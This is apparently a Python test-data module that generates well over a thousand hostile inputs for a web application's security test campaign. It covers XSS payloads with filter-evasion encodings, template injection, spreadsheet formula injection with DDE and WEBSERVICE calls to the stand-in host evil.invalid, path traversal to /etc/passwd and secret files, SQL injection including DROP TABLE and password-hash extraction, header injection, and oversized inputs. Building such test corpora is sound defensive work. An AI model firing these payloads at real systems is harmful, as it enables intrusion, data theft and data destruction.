"""What an attacker would type, made by context rather than copied from a list.

Each family crosses the ways out of a context with what runs once out of it, then with the encodings
that hide it. Everything calls ``alert`` or asks ``evil.invalid``: the campaign watches for both.
"""

import itertools
from typing import Final

ELSEWHERE: Final = "evil.invalid"
TEMPLATE_RESULT: Final = "5919187"  # 1777 × 3331: what an interpreted template would write
# The ways out: of nothing, an attribute, an element whose content is raw, a comment, a drawing.
_OUT = (
    *("", '"', "'", '">', "'>", "`", "</textarea>", "</title>", "</option></select>", "</script>"),
    *("</style>", "-->", "]]>", "</svg>", "</p></bdi>", '" x="', "\\", "</noscript>"),
)
_RUN = (
    "<script>alert(1)</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>import('//evil.invalid/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.invalid/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.invalid/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><button formaction=//evil.invalid/>x</button></form>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<link rel=prefetch href=//evil.invalid/>",
    "<style>@import'//evil.invalid/x.css'</style>",
    "<style>*{background:url(//evil.invalid/x.png)}</style>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<marquee onstart=alert(1)>x</marquee>",
)
_ATTRIBUTES = tuple(
    f"{quote} {handler}=alert(1) autofocus x={quote}"
    for quote in ('"', "'", "")
    for handler in ("onmouseover", "onfocus", "onpointerenter", "style=x onanimationend")
)
_URLS = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
    ),
    *("\x01javascript:alert(1)", " javascript:alert(1)", "javascript://%0aalert(1)"),
    *("&#106;avascript:alert(1)", "javascript&colon;alert(1)", "%6aavascript:alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.invalid/"),
    *(
        "https://evil.invalid\\@semailles.example",
        "https:evil.invalid",
        "blob:x",
        "file:///etc/passwd",
    ),
)
_SCRIPTS = (
    *('";alert(1)//', "';alert(1)//", "\\';alert(1)//", "${alert(1)}", "`;alert(1)//"),
    *("\u2028alert(1)", "*/alert(1)/*", "-alert(1)-", "'-alert(1)-'", "\\u0027;alert(1)//"),
)
_TEMPLATES = (
    *("{{ 1777*3331 }}", "{% print(1777*3331) %}", "${1777*3331}", "#{1777*3331}"),
    *("<%= 1777*3331 %>", "{{constructor.constructor('alert(1)')()}}", "{{config}}"),
    *(
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{%for x in (1,)%}{%endfor%}",
        "{{request.environ}}",
    ),
    *("{#", "{{", "{%", "}}", "%}", "{{{{1777*3331}}}}", "[[1777*3331]]", "@(1777*3331)"),
)
_STYLES = (
    *(
        "expression(alert(1))",
        "};*{background:url(//evil.invalid/x)}",
        "red;}</style><script>alert(1)",
    ),
    *("url('javascript:alert(1)')", "\\65xpression(alert(1))", "@import '//evil.invalid/x';"),
)
_MARKS = (
    *("[x](javascript:alert(1))", '![x](x"onerror="alert(1))', "<javascript:alert(1)>"),
    *("[x]: javascript:alert(1)", "```html\n<img src=x onerror=alert(1)>\n```"),
    *('#import "//evil.invalid"', '#eval("1777*3331")', "$ 1777 * 3331 $", '#read("/etc/passwd")'),
    *("<#if x>", "\\input{/etc/passwd}", "&lt;script&gt;alert(1)&lt;/script&gt;"),
)


def _hidden(text: str) -> tuple[str, ...]:
    """The same words, as filters that look for them miss them."""
    return (
        text.replace("script", "ScRiPt").replace("img", "iMg").replace("svg", "sVg"),
        text.replace(" ", "/"),
        text.replace(" ", "\n"),
        text.replace(" ", "\f"),
        text.replace("alert(1)", "alert`1`"),
        text.replace("alert(1)", "top['al'+'ert'](1)"),
        text.replace("alert(1)", "&#97;lert(1)"),
        text.replace("alert", "\\u0061lert"),
        text.replace("<", "\uff1c").replace(">", "\uff1e"),
        text.replace("<", "%3c").replace(">", "%3e"),
        text.replace("<", "%253c").replace(">", "%253e"),
        text.replace("<", "&lt;").replace(">", "&gt;"),
        text.replace("<", "&#x3c").replace(">", "&#62"),
        text.replace("<", "+ADw-").replace(">", "+AD4-"),
        text.replace("<", "<\x00"),
        text.replace("<", "<\u200b"),
        text.replace("<script", "<scr<script>ipt"),
        text.rstrip(">"),
        f"\u202e{text}\u202c",
        f"\ufeff{text}",
    )


def scripts() -> tuple[str, ...]:
    """Every script: a thousand and more, no two alike."""
    crossed = (out + run for out, run in itertools.product(_OUT, _RUN))
    masked = (form for run in _RUN[::2] for form in _hidden(run))
    plain = (*_ATTRIBUTES, *_URLS, *_SCRIPTS, *_TEMPLATES, *_STYLES, *_MARKS)
    return tuple(dict.fromkeys((*plain, *crossed, *masked)))


def some_scripts(number: int) -> tuple[str, ...]:
    """A part of them spread over every family, the same each time."""
    every = scripts()
    step = max(len(every) // number, 1)
    return every[::step]


FORMULAS: Final = tuple(
    lead + body
    for lead in (
        *(
            "=",
            "+",
            "-",
            "@",
            "\t=",
            "\r=",
            "\n=",
            "\uff1d",
            "\uff0b",
            "\uff0d",
            "\uff20",
            " =",
            "\u00a0=",
        ),
        *(";=", '";=', "',=", "\u200b=", "\u202e=", "|=", '"\n='),
    )
    for body in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://evil.invalid","x")',
        'IMPORTXML("https://evil.invalid","//a")',
        'WEBSERVICE("https://evil.invalid/"&A1)',
        'DDE("cmd";"/C calc";"x")',
    )
)
_TARGETS = (
    "etc/passwd",
    "instance/secret_key",
    "webapp/config.py",
    ".git/HEAD",
    "proc/self/environ",
)
_UP = (
    *("../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "....//", "..;/"),
    *("..%c0%af", "%uff0e%uff0e/", "/", "//", "file:///", "\uff0e\uff0e/"),
)
PATHS: Final = tuple(
    f"{up * deep}{target}" for up in _UP for target in _TARGETS for deep in (1, 4)
) + tuple(
    f"{target}{end}" for target in _TARGETS for end in ("%00", "%00.css", "::$DATA", "~", ".bak")
)
SQL: Final = (
    *(
        "'",
        '"',
        "' OR '1'='1",
        "' OR 1=1 --",
        '" OR ""="',
        "1; DROP TABLE contribution",
        "') OR ('1'='1",
    ),
    *(
        "' UNION SELECT password_hash FROM account --",
        "1 UNION ALL SELECT NULL,NULL,NULL",
        "'||'",
        "a'b",
    ),
    *(
        "'; SELECT pg_sleep(9) --",
        "1 AND 1=randomblob(1e9)",
        "x' AND 1=1 --",
        "x' AND 1=2 --",
        "%",
        "_",
    ),
    *(
        "%%",
        "\\",
        "\\%",
        "*",
        "\\'",
        "' LIKE '%",
        "1e309",
        "0x10",
        "CHAR(39)",
        "/*",
        "*/",
        "--",
        "#",
        ";",
    ),
    *("bus' ESCAPE '", "[a-z]", "$1", ":1", "?", "{0}", "%s", "%(x)s", "\uff07 OR 1=1", "ʼ OR 1=1"),
)
_NUMBERS = (
    *(
        "-1",
        "0",
        "1.5",
        "1e9",
        "1e400",
        "NaN",
        "inf",
        "-inf",
        "0x10",
        "1_000",
        "٣",
        "²",
        "１２",
        "1" * 30,
    ),
    *(
        "9223372036854775808",
        "2147483648",
        "-2147483649",
        "+1",
        " 1",
        "1 ",
        "1,5",
        "1\x00",
        "½",
        "true",
    ),
)
_DATES = (
    *(
        "0000-00-00",
        "0001-01-01",
        "9999-12-31",
        "10000-01-01",
        "2024-02-30",
        "2024-13-01",
        "demain",
    ),
    *(
        "2024-01-01T99:99",
        "2024-01-01T00:00:60",
        "-2024-01-01",
        "2024-W01",
        "٢٠٢٤-٠١-٠١",
        "2024-01-01Z",
    ),
)
TYPES: Final = (
    *_NUMBERS,
    *_DATES,
    *("", " ", "[]", "{}", "null", "None", "undefined", "[object Object]", "a" * 5_000, "é" * 300),
    *("\x00", "\ud7ff", "\ufffd", "\U0010ffff", "\u202e", "🧑‍🤝‍🧑" * 30, "e" + "\u0301" * 500),
    *(
        "../../etc/passwd",
        "C:\\x",
        "%00",
        "%",
        "%zz",
        "\r\nX-Evil: 1",
        "a\r\nb",
        "a;b",
        "a|b",
        "a&b=c",
    ),
    *SQL,
)
HEADERS: Final = tuple(
    {name: value}
    for name in (
        *("Host", "X-Forwarded-Host", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Prefix"),
        *("Forwarded", "X-Real-IP", "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override"),
        *(
            "Referer",
            "Origin",
            "User-Agent",
            "Accept",
            "Accept-Language",
            "Accept-Encoding",
            "Cookie",
        ),
        *("If-None-Match", "If-Modified-Since", "Range", "Content-Type", "Authorization"),
    )
    for value in (
        *(
            "evil.invalid",
            "127.0.0.1",
            "<script>alert(1)</script>",
            "' OR 1=1 --",
            "https",
            "/admin",
        ),
        *(
            "{{ 1777*3331 }}",
            "x" * 3_000,
            "bytes=0-,0-,0-,0-",
            "DELETE",
            "é\xff",
            ";=,;=,",
            "*/*;q=9e9",
        ),
    )
)
SIZES: Final = {
    "nothing": "",
    "blanks": " " * 1_000_000,
    "a's": "a" * 1_000_000 + "!",
    "lines": "\n" * 1_000_000,
    "marks": "e" + "\u0301\u0323" * 150_000,
    "joiners": "\u200d" * 300_000,
    "brackets": "[" * 500_000,
    "tags": "<" * 500_000,
    "points": ". " * 400_000,
    "commas": "a," * 400_000,
    "digits": "0 " * 400_000,
    "capitals": "Aa " * 300_000,
    "apostrophes": "l'" * 400_000,
    "dashes": "a-" * 400_000,
    "ten megabytes": "x" * 10_000_000,
}
